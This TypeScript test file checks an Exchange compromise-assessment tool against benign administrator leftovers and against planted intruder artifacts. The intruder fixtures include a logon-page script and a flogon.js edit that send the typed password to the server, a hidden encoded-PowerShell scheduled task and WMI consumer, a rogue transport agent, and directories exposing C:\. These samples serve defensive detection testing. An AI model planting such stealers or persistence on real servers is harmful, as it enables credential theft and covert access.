/**
 * What administrators leave on a mail server over the years: nothing above `probed`. And what intruders leave beside pages: each is found, by
 * the rule that is made for it. Both in one server each, so that nothing hides behind another thing.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Assessment } from '../../src/core/assessment.ts';
import { stageRank } from '../../src/core/stage.ts';
import { assessFolder } from '../support/assess-folder.ts';
import { applicationHost, exchangeFolder, type Tree, webConfig, writeTree } from '../support/exchange-tree.ts';
import { agents, asCsv, healthyServer, serverFolder } from '../support/healthy-server.ts';

let folder: string;
beforeAll(() => {
  folder = fs.mkdtempSync(path.join(os.tmpdir(), 'afterpatch-leftovers-'));
});
afterAll(() => fs.rmSync(folder, { recursive: true, force: true }));

const plain = healthyServer('2016');
async function assessed(name: string, more: Tree): Promise<Assessment> {
  const own = path.join(folder, name);
  writeTree(own, { ...plain.tree, ...more });
  return assessFolder(own, { baselines: [plain.baseline] });
}
const above = ({ findings }: Assessment): string[] =>
  findings
    .filter(({ stage }) => stageRank(stage) > stageRank('probed'))
    .map(({ rule, evidence }) => `${rule} ${evidence[0]!.artifact}`);

const front = `${exchangeFolder}/FrontEnd/HttpProxy`;
const www = 'C/inetpub/wwwroot';
const logon = plain.tree[`${front}/owa/auth/logon.aspx`]!;
const host = 'C/Windows/System32/inetsrv/config/applicationHost.config';
const location = (where: string, inner: string): string =>
  `<location path="${where}"><system.webServer>${inner}</system.webServer></location>`;
const abort = (name: string, pattern: string): string =>
  `<rule name="${name}" stopProcessing="true"><match url=".*" /><conditions><add input="{UrlDecode:{REQUEST_URI}}" pattern="${pattern}" /></conditions><action type="AbortRequest" /></rule>`;
const redirect =
  '<%@ Page Language="C#" %>\r\n<script runat="server">\r\n  protected override void OnLoad(EventArgs e) { Response.Redirect("~/owa/"); base.OnLoad(e); }\r\n</script>\r\n';
const shippedPages = Object.entries(plain.tree).filter(
  ([file]) => file.startsWith(exchangeFolder) && /\.(?:aspx|svc|asax|asmx|config)$/.test(file),
);
const copied = (to: string): Tree =>
  Object.fromEntries(shippedPages.map(([file, text]) => [file.replace(exchangeFolder, to), text]));

/** A captcha, as owners build it in: it asks for an address, and not with the password. */
const captcha =
  '<script>function go(t){var q=new XMLHttpRequest();q.open("GET","/owa/auth/check?response="+t,false);q.send();clkLgn();}</script><script src="https://captcha.example/api.js"></script>';

test('what administrators leave', async () => {
  const assessment = await assessed('administrators', {
    // Pages of sign-in with a notice, a logo, a captcha; what was kept of them before.
    [`${front}/owa/auth/logon.aspx`]: logon.replace('</form>', `<p>Only for staff of Haven.</p><img src="/owa/auth/logo.png">${captcha}</form>`),
    [`${front}/owa/auth/ExpiredPassword.aspx`]: plain.tree[`${front}/owa/auth/ExpiredPassword.aspx`]!.replace('</body>', '<p>Helpdesk: 4711</p></body>'),
    [`${front}/owa/auth/logon_old.aspx`]: logon.replace('</form>', '<p>Welcome</p></form>'),
    [`${front}/owa/auth/logon - Copy.aspx`]: logon,
    [`${front}/owa/auth/logon.aspx.bak`]: logon,
    [`${front}/owa/web.config.20210301`]: plain.tree[`${front}/owa/web.config`]!,
    [`${front}/owa/auth/15.1.2176/themes/resources/logon.css`]: 'body{background:#123}',
    [`${front}/owa/auth/15.1.2176/scripts/premium/flogon.js`]:
      'function clkLgn(){gbid("password").value=gbid("passwordText").value;document.logonForm.submit();}',
    // The way from the root of the site to the mail.
    [`${www}/default.aspx`]: redirect,
    [`${www}/Default.asp`]: '<% Response.Redirect "https://mail.haven.example/owa" %>',
    [`${www}/default.htm`]: '<html><head><meta http-equiv="refresh" content="0; url=/owa"></head></html>',
    [`${www}/web.config`]: webConfig(
      `<httpRedirect enabled="true" destination="/owa" childOnly="true" /><rewrite><rules>${abort('PowerShell - inbound', '.*autodiscover\\.json.*Powershell.*')}<rule name="HTTPS" stopProcessing="true"><match url="(.*)" /><conditions><add input="{HTTPS}" pattern="^OFF$" /></conditions><action type="Redirect" url="https://{HTTP_HOST}/{R:1}" /></rule></rules></rewrite>`,
    ),
    // Certificates, probes, what ASP.NET puts there.
    [`${www}/.well-known/acme-challenge/aBcD-123_x`]: 'aBcD-123_x.thumb',
    [`${www}/.well-known/acme-challenge/web.config`]: webConfig('<staticContent><mimeMap fileExtension="." mimeType="text/plain" /></staticContent>'),
    [`${www}/monitor/status.aspx`]: '<%@ Page Language="C#" %>\r\n<%= DateTime.Now.ToString("s") %> OK',
    [`${www}/aspnet_client/system_web/4_0_30319/WebForms.js`]: '//',
    // The mitigation service, Extended Protection, another site.
    [`${front}/Autodiscover/web.config`]: plain.tree[`${front}/Autodiscover/web.config`]!.replace('<system.webServer>', `<system.webServer><rewrite><rules>${abort('EEMS M1.1 PowerShell - inbound', '(?=.*autodiscover)(?=.*powershell)')}</rules></rewrite>`),
    [host]: applicationHost({
      directories: ['<application path="/intranet"><virtualDirectory path="/" physicalPath="D:\\Intranet" /></application>'],
      modules: ['<add name="ApplicationRequestRouting" image="%ProgramFiles%\\IIS\\Application Request Routing\\requestRouter.dll" />'],
      locations: ['owa', 'ecp', 'EWS', 'mapi', 'PowerShell'].map((name) => location(`Default Web Site/${name}`, '<security><access sslFlags="Ssl, Ssl128" /><authentication><windowsAuthentication enabled="true"><extendedProtection tokenChecking="Require" /></windowsAuthentication></authentication></security>')),
    }),
    'C/inetpub/history/CFGHISTORY_0000000012/applicationHost.config': applicationHost(),
    'D/Intranet/default.aspx': '<%@ Page Language="C#" CodeFile="default.aspx.cs" Inherits="_Default" %>',
    // Installers, older versions, what was thrown away.
    ...copied('D/Exchange2016-CU19/Setup/ServerRoles'),
    ...copied('C/Program Files/Microsoft/Exchange Server/V14'),
    'C/$Recycle.Bin/S-1-5-21-1-2-3-500/$RABC123.aspx': redirect,
    'C/Windows.old/inetpub/wwwroot/default.aspx': redirect,
    // Tasks and agents as they lie on the disk.
    'C/Windows/System32/Tasks/Exchange logs': taskXml('powershell.exe', '-NoProfile -ExecutionPolicy Bypass -File "C:\\Scripts\\CleanLogs.ps1"'),
    [`${exchangeFolder}/TransportRoles/Shared/agents.config`]: agentsConfig(agents),
    'printed/administrators.csv': asCsv([
      { Name: 'MAIL01\\Administrator', ObjectClass: 'User', PrincipalSource: 'Local', SID: 'S-1-5-21-1-2-3-500' },
      { Name: 'HAVEN\\MAIL02$', ObjectClass: 'User', PrincipalSource: 'ActiveDirectory', SID: 'S-1-5-21-4-5-6-1133' },
    ]),
    'printed/mft.csv': mft([`${serverFolder.slice(3)}\\FrontEnd\\HttpProxy\\owa\\auth|logon.aspx|`, 'Windows\\System32|cmd.exe|Hidden']),
  }); // prettier-ignore
  expect(above(assessment)).toEqual([]);
  expect(assessment.verdict.stage).toBe('none');
  expect(assessment.verdict.presence.waysBack).toEqual([]);
  expect(
    assessment.inventory.flatMap(({ notes }) => notes).length + new Set(assessment.problems.map(({ code }) => code)).size,
  ).toBeLessThanOrEqual(5);
  // What the owner changed is listed, with what its text does.
  expect(
    assessment.inventory.flatMap(({ odd }) => odd.map(({ path: file }) => file.slice(file.lastIndexOf('\\') + 1))).sort(),
  ).toEqual(expect.arrayContaining(['ExpiredPassword.aspx', 'logon - Copy.aspx', 'logon.aspx', 'logon_old.aspx']));
});

function taskXml(command: string, argumentsOf: string): string {
  return `<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n  <RegistrationInfo><Date>2021-03-05T03:12:00</Date><Author>HAVEN\\adm</Author><URI>\\Exchange logs</URI></RegistrationInfo>\r\n  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals>\r\n  <Actions Context="Author"><Exec><Command>${command}</Command><Arguments>${argumentsOf}</Arguments></Exec></Actions>\r\n</Task>\r\n`;
}

function agentsConfig(list: readonly Readonly<Record<string, string>>[]): string {
  const lines = list.map(
    (one) =>
      `      <agent name="${one.Identity!}" baseType="Microsoft.Exchange.Data.Transport.Routing.RoutingAgentFactory" classFactory="${one.TransportAgentFactory!}" assemblyPath="${one.AssemblyPath!}" enabled="true" />`,
  );
  return `<?xml version="1.0" encoding="utf-8"?>\r\n<configuration>\r\n  <mexRuntime>\r\n    <monitoring><agentExecution timeLimitInMilliseconds="90000" /></monitoring>\r\n    <agentList>\r\n${lines.join('\r\n')}\r\n    </agentList>\r\n  </mexRuntime>\r\n</configuration>\r\n`;
}

/** As MFTECmd writes it; `folder|name|flags`. */
function mft(rows: readonly string[]): string {
  return [
    'EntryNumber,SequenceNumber,InUse,ParentEntryNumber,ParentPath,FileName,Extension,FileSize,IsDirectory,HasAds,SI<FN,SiFlags,Created0x10,Created0x30,LastModified0x10,LastModified0x30',
    ...rows.map((row, at) => {
      const [parent, name, flags] = row.split('|') as [string, string, string];
      return `${100 + at},1,True,5,.\\${parent},${name},.x,1200,False,False,True,${flags},2019-09-12 08:01:00.0000000,2021-03-03 04:12:00.0000000,2019-08-30 21:14:00.0000000,`;
    }),
    '',
  ].join('\r\n');
}

test('what intruders leave', async () => {
  const stealer =
    '<script>function clkLgn(){var x=new XMLHttpRequest();x.open("POST","/owa/auth/x.js");x.send(gbid("password").value);}</script>';
  const assessment = await assessed('intruders', {
    [`${front}/owa/auth/logon.aspx`]: logon.replace('</head>', `${stealer}</head>`),
    [`${front}/owa/auth/15.1.2176/scripts/premium/flogon.js`]: 'function clkLgn(){new Image().src="/owa/auth/a.png?"+gbid("password").value;document.logonForm.submit();}',
    'C/Windows/System32/Tasks/Microsoft/Windows/VSPerfMon': taskXml('powershell.exe', '-nop -w hidden -enc AAAA'),
    [`${exchangeFolder}/TransportRoles/Shared/agents.config`]: agentsConfig([...agents, { Identity: 'Mail Helper Agent', TransportAgentFactory: 'H.F', AssemblyPath: 'C:\\ProgramData\\Helper\\Agent.dll' }]),
    [host]: applicationHost({
      directories: ['<application path="/media"><virtualDirectory path="/" physicalPath="C:\\ProgramData" /></application>', '<application path="/c"><virtualDirectory path="/" physicalPath="C:\\" /></application>'],
    }),
    'printed/administrators.csv': asCsv([{ Name: 'MAIL01\\support$', ObjectClass: 'User', PrincipalSource: 'Local', SID: 'S-1-5-21-1-2-3-1105' }]),
    'printed/mft.csv': mft(['inetpub\\wwwroot\\aspnet_client|supp0rt.aspx|Hidden|System']),
    'printed/consumers.txt': '\r\n__GENUS             : 2\r\n__CLASS             : CommandLineEventConsumer\r\nCommandLineTemplate : powershell.exe -nop -w hidden -enc AAAA\r\nName                : SCM Event8 Log Consumer\r\n__SERVER            : MAIL01\r\n',
  }); // prettier-ignore
  const found = assessment.findings.map(({ rule, stage, confidence, count }) => `${rule} ${stage} ${confidence} ${count}`);
  expect(found.sort()).toEqual([
    'post-exploitation/state-account spread possible 1',
    'post-exploitation/state-task implanted possible 1',
    'post-exploitation/state-wmi-consumer implanted possible 1',
    'web-shell/agent-odd-folder implanted possible 1',
    'web-shell/config-directory-odd implanted possible 2',
    'web-shell/page-listed implanted probable 1',
    'web-shell/page-takes-passwords implanted probable 2',
  ]);
  const raw = JSON.stringify(assessment.findings);
  for (const told of ['VSPerfMon', 'Agent.dll', 'supp0rt.aspx', 'support$', 'logon.aspx']) expect(raw).toContain(told);
  // Everybody asks for the page of sign-in: requests for it are nobody's.
  expect(assessment.findings.some(({ rule }) => rule.startsWith('learnt/'))).toBe(false);
  expect(assessment.verdict.answer).toBe('suspected');
});
